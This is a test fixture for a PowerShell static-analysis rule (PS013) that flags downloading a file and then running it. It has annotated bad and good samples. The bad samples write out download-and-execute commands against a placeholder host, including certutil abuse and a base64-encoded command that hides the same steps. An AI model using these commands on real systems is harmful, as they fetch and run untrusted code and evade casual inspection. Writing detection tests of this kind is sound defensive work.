# file: bad1.ps1
Invoke-WebRequest https://host.example/setup.exe -OutFile C:\Setup\setup.exe
# ruleid: PS013_DownloadedAndStarted
Start-Process C:\Setup\setup.exe

# file: bad2.ps1
# form: aliased
(New-Object Net.WebClient).DownloadFile('https://host.example/a.exe', "$env:TEMP\a.exe")
# ruleid: PS013_DownloadedAndStarted
saps $env:TEMP\a.exe

# file: bad3.ps1
# form: variable
$file = Join-Path $env:TEMP 'tool.exe'
Start-BitsTransfer -Source https://host.example/tool.exe -Destination $file
# ruleid: PS013_DownloadedAndStarted
& $file

# file: bad4.ps1
# form: splatted
$get = @{ Uri = 'https://host.example/run.bat'; OutFile = 'C:\x\run.bat' }
Invoke-WebRequest @get
# ruleid: PS013_DownloadedAndStarted
cmd /c C:\x\run.bat

# file: bad5.ps1
certutil -urlcache -split -f https://host.example/b.exe C:\x\b.tmp
Rename-Item C:\x\b.tmp b.exe
# ruleid: PS013_DownloadedAndStarted
Invoke-Item C:\x\b.exe

# file: bad6.ps1
# form: wrapped
# ruleid: PS013_DownloadedAndStarted
powershell -NoProfile -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcABzADoALwAvAGgAbwBzAHQALgBlAHgAYQBtAHAAbABlAC8AcwBlAHQAdQBwAC4AZQB4AGUAIAAtAE8AdQB0AEYAaQBsAGUAIABDADoAXABTAGUAdAB1AHAAXABzAGUAdAB1AHAALgBlAHgAZQAKAFMAdABhAHIAdAAtAFAAcgBvAGMAZQBzAHMAIABDADoAXABTAGUAdAB1AHAAXABzAGUAdAB1AHAALgBlAHgAZQA=

# file: good1.ps1
# form: near miss
Invoke-WebRequest https://host.example/setup.exe -OutFile setup.exe
if ((Get-FileHash setup.exe).Hash -ne $known) { throw 'changed' }
# ok: PS013_DownloadedAndStarted
Start-Process .\setup.exe

# file: good2.ps1
# form: near miss
Invoke-WebRequest https://host.example/list.csv -OutFile list.csv
# ok: PS013_DownloadedAndStarted
Start-Process notepad.exe

# file: good3.ps1
# form: near miss
# ok: PS013_DownloadedAndStarted
Start-Process C:\Setup\setup.exe
